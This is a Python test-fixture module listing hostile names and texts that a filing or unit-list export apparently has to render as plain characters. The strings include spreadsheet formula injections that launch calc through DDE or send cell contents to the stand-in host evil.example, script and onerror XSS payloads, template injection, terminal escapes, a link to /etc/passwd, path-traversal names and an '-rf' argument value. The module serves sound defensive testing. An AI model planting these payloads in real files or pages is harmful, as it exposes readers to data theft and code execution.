"""Names and texts that a filing or a list of units may hold, and that nothing may come out of alive.

A cell of a summary, a CSV, a Word document or a page that shows one of them shows these very characters: no formula, no
link, no markup, no path.
"""

from __future__ import annotations

#: What a spreadsheet would calculate, or a program start, if it were typed in or read from a CSV.
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    '=WEBSERVICE("http://evil.example/")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '","=1+1","',
    "';=1+1",
    "%0A=1+1",
)
#: What a page, a document or a terminal would take for something else than text.
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><b>",
    "&lt;b&gt; & \"引号\" '单引号'",
    "]]><x/>",
    "{{7*7}}${7*7}",
    "[bold red]终端[/bold red]",
    "\x1b[31m红\x1b[0m",
    "_x0000_ _x000D_",
    "\u202e局政财\u202c",
)
LINKS = (
    "http://evil.example/a",
    "https://evil.example/?q=单位",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x",
    "internal:首页!A1",
    "external:..\\x.xlsx",
    "javascript:alert(1)",
)
PATHS = (
    "../../越界",
    "..\\..\\越界",
    "C:\\Windows\\越界",
    "/tmp/越界",
    "~/越界",
    "CON",
    "nul.xlsx",
    "局.",
    " 局 ",
    ".隐藏",
    "-rf",
    'a/b\\c:d*e?f"g<h>i|j',
    "长" * 300,
)
NAMES = (*FORMULAS, *MARKUP, *LINKS, *PATHS)
